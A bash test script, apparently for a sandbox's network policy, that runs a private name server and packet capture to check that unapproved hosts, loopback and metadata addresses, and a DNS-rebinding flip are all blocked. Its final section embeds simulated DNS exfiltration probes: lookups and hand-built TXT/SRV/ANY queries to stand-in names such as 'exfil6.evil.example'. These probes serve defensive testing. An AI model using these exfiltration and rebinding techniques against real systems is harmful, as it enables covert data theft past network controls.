#!/bin/bash
# Names that the DNS resolves, with a name server of the test's own. Its answers are not trusted, and it is asked for
# approved names only. Runs in namespaces of the test's own, so that every packet can be captured.
if [ -z "${NET_NAMES_INSIDE:-}" ]; then
	[ "$(id -u)" = 0 ] || { echo "SKIP: a name server at port 53 needs root"; exit 77; }
	unshare --mount --net true 2>/dev/null || { echo "SKIP: no namespaces here"; exit 77; }
	export NET_NAMES_INSIDE=1
	exec unshare --mount --net -- "$BASH" "$0"
fi
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../net.sh"
need dnsmasq tcpdump ip jq
NET=$T/net
PORT=7777
mkdir -p "$NET/names"

# ---- the world: what is for no host here goes round in the loopback device and is seen there ----
{
	ip link set lo up && ip addr add 10.200.0.1/32 dev lo && ip route add default dev lo src 10.200.0.1 &&
		ip addr add 10.9.8.7/32 dev lo && ip addr add 9.9.9.10/32 dev lo
} >"$NET/ip.log" 2>&1 || skip "no network devices here: $(tail -n 1 "$NET/ip.log")"
printf 'nameserver 127.0.0.1\nsearch leak.example\noptions timeout:2\n' >"$NET/resolv.conf"
printf '127.0.0.1 localhost\n' >"$NET/hosts"
printf 'hosts: files dns\npasswd: files\ngroup: files\n' >"$NET/nsswitch.conf"
for file in resolv.conf hosts nsswitch.conf; do
	touch "/etc/$file" 2>/dev/null
	mount --bind "$NET/$file" "/etc/$file" || skip "/etc/$file cannot be replaced here"
done
cat >"$NET/names/all" <<-END
	10.9.8.7 good.test priv.test mixed.test real.test a.wild.test
	127.0.0.1 loop.test mixed.test
	169.254.169.254 meta.test
	9.9.9.10 local.test
	::1 six.test
	::ffff:127.0.0.1 mapped.test
END
echo "10.9.8.7 flip.test" >"$NET/names/flip"
dnsmasq --keep-in-foreground --user=root --group= --pid-file="$NET/pid" --conf-file=/dev/null --no-resolv --no-hosts \
	--addn-hosts="$NET/names" --local-ttl=0 --listen-address=127.0.0.1 --bind-interfaces --local=/test/ \
	--local=/example/ \
	--log-queries --log-facility="$NET/queries" >"$NET/log" 2>&1 &
live_kept+=($!)
tcpdump -i lo -nn -l -w "$NET/packets" 'port 53' >"$NET/tcpdump.log" 2>&1 &
tcpdump=$!
live_kept+=("$tcpdump")

# Greets each client and writes down at which address it connected.
cat >"$NET/server.py" <<'END'
import socket, sys, threading
log = open(sys.argv[1], "a", buffering=1)
def serve(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.bind((address, int(sys.argv[2])))
    s.listen(64)
    log.write("ready %s\n" % address)
    while True:
        c, _ = s.accept()
        log.write("connection at %s\n" % address)
        c.sendall(b"hello\n")
        c.close()
for address in sys.argv[3:]:
    threading.Thread(target=serve, args=(address,)).start()
END
"$PYTHON" "$NET/server.py" "$NET/served" $PORT 10.9.8.7 127.0.0.1 9.9.9.10 ::1 </dev/null >>"$NET/log" 2>&1 &
live_kept+=($!)
net_await "the server" eval "[ \"\$(grep -c ready '$NET/served')\" = 4 ]"
net_await "the name server" grep -q started "$NET/queries"
net_await "the capture" grep -q listening "$NET/tcpdump.log"

rule()
{
	printf '{"host": "%s", "port": %s, "proto": "tcp"%s}' "$1" $PORT "${2:-}"
}
private=', "private": true'
net_policy "{\"allow\": [
	$(rule good.test "$private"), $(rule mixed.test "$private"), $(rule flip.test "$private"),
	$(rule real.test "$private, \"dns\": \"real\""), $(rule "*.wild.test" "$private"), $(rule loop.test "$private"),
	$(rule meta.test "$private"), $(rule six.test "$private"), $(rule mapped.test "$private"),
	$(rule nx.test "$private"),
	$(rule priv.test), $(rule local.test)]}"

cat >"$T/home/go.py" <<'END'
import errno, os, socket, sys, time
def go(host, port=7777):
    try:
        # Without a timeout: a connect(2) that may not wait is told of a refusal later when that takes 250 ms.
        with socket.create_connection((host, port)) as s:
            s.settimeout(20)
            return s.makefile().readline().strip() or "closed"
    except socket.gaierror as e:
        return "gaierror"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
for host in sys.argv[1:]:
    if host.startswith("await:"):
        while not os.path.exists(host[6:]):
            time.sleep(0.05)
        continue
    print(host, go(host), flush=True)
END

for without in "" netns namespaces; do
	export LIVE_WITHOUT=$without
	where=${without:+without $without: }
	go()
	{
		net_run -r "$T/home" -- "$PYTHON" "$T/home/go.py" "$@" 2>&1
	}
	expect()
	{
		[ "$2" = "$1" ] || fail "${where}expected $1, got $2; $(jq -c 'select(.event == "open" or
			.event == "dns")' "$T/audit" | tail -n 3)"
	}

	# ---- what it answers ----
	before=$(grep -c connection "$NET/served")
	expect "good.test hello" "$(go good.test)"
	audit_has '.event == "open" and .host == "good.test" and .real == "10.9.8.7:7777"'
	expect "mixed.test hello" "$(go mixed.test)"
	audit_has '.event == "open" and .host == "mixed.test" and .dropped == "127.0.0.1 loopback"'
	expect "a.wild.test hello" "$(go a.wild.test)"
	[ "$(grep -c "connection at 10.9.8.7" "$NET/served")" = "$(grep -c connection "$NET/served")" ] ||
		fail "${where}something else was connected to: $(sort "$NET/served" | uniq -c)"
	[ "$(grep -c connection "$NET/served")" = $((before + 3)) ] || fail "${where}not three connections"
	for host in loop.test meta.test six.test mapped.test priv.test local.test; do
		expect "$host ECONNREFUSED" "$(go $host)"
		audit_has ".event == \"open\" and .host == \"$host\" and .verdict == \"deny\" and
			.reason == \"denied_addr\""
	done
	audit_has '.event == "open" and .dropped == "9.9.9.10 local"'
	[ "$(grep -c connection "$NET/served")" = $((before + 3)) ] || fail "${where}a denied address was connected to"
	expect "nx.test EHOSTUNREACH" "$(go nx.test)"
	audit_has '.event == "open" and .reason == "dns_fail"'

	# ---- first one answer, then another ----
	echo "10.9.8.7 flip.test" >"$NET/names/flip"
	rm -f "$T/home/flipped"
	kill -HUP "$(cat "$NET/pid")"
	before=$(grep -c connection "$NET/served")
	go flip.test "await:$T/home/flipped" flip.test >"$NET/flip.out" &
	run=$!
	net_await "the first connection" eval "[ \"\$(grep -c connection '$NET/served')\" -gt $before ]"
	echo "127.0.0.1 flip.test" >"$NET/names/flip"
	kill -HUP "$(cat "$NET/pid")"
	net_await "the new answer" eval \
		"'$PYTHON' -c 'import socket; assert socket.gethostbyname(\"flip.test\") == \"127.0.0.1\"'"
	touch "$T/home/flipped"
	wait "$run"
	expect "flip.test hello flip.test ECONNREFUSED" "$(xargs <"$NET/flip.out")"
	! grep -q "connection at 127" "$NET/served" || fail "${where}rebound to loopback"

	# ---- real addresses ----
	got=$(net_run -- "$PYTHON" -c "
import socket
print(*sorted({a[4][0] for a in socket.getaddrinfo('real.test', $PORT)}))
s = socket.create_connection(('real.test', $PORT), 20)
print(s.makefile().readline().strip(), s.getpeername()[0])" 2>&1)
	expect "10.9.8.7 hello 10.9.8.7" "$(xargs <<<"$got")"

	# ---- what was not approved does not leave ----
	got=$(net_run -- "$PYTHON" -c "
import socket, struct
def lookup(name):
    try:
        return socket.getaddrinfo(name, 443)[0][4][0]
    except OSError as e:
        return 'none'
print(lookup('exfil1.evil.example'), lookup('exfil2.good.test'), lookup('exfil3.b.wild.test'), lookup('exfil4'))
print(lookup('exfil5.wild.test') != 'none')
def query(name, type):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', type, 1)
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
for type in (16, 65, 33, 255):
    for name in ('exfil6.evil.example', 'exfil7.good.test', 'good.test', 'exfil8.wild.test'):
        s = socket.create_connection((ns, 53), 20)
        q = query(name, type)
        s.sendall(struct.pack('>H', len(q)) + q)
        f = s.makefile('rb')
        n = struct.unpack('>H', f.read(2))[0]
        f.read(n)
for address in ('8.8.8.8', '10.200.0.2', '127.0.0.1'):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(2)
            if address == '127.0.0.1':
                s.bind(('127.0.0.1', 0))
            s.connect((address, 53))
            s.send(query('exfil9.evil.example', 1))
        except OSError:
            pass
" 2>&1)
	expect "none none none none True" "$(xargs <<<"$got")"
	audit_has '.event == "dns" and .host == "exfil1.evil.example" and .verdict == "deny" and .reason == "no_rule"'
done

# ---- the capture: questions about approved names only ----
sleep 0.5
kill -INT "$tcpdump"
wait "$tcpdump" 2>/dev/null
# The program's own questions to the run's name server are on this machine's loopback where there is no namespace for
# them: theirs are other loopback addresses than 127.0.0.1, which is the world's.
tcpdump -nn -r "$NET/packets" 'dst port 53 and (not dst net 127.0.0.0/8 or dst host 127.0.0.1)' \
	>"$NET/asked" 2>/dev/null
grep -q 'A? good.test' "$NET/asked" || fail "the capture saw nothing: $(wc -l <"$NET/asked") packets"
! grep -E 'exfil|leak\.example' "$NET/asked" "$NET/queries" || fail "a question has left"
others=$(grep -oE '(A|AAAA|[A-Z0-9]+)\? [^ ]+' "$NET/asked" |
	grep -vE '^(A|AAAA)\? ((good|mixed|flip|real|a\.wild|loop|meta|six|mapped|nx|priv|local)\.test)\.$')
[ -z "$others" ] || fail "other questions: $others"
! grep -vE ' 127\.0\.0\.1\.53: ' "$NET/asked" || fail "another name server was asked"
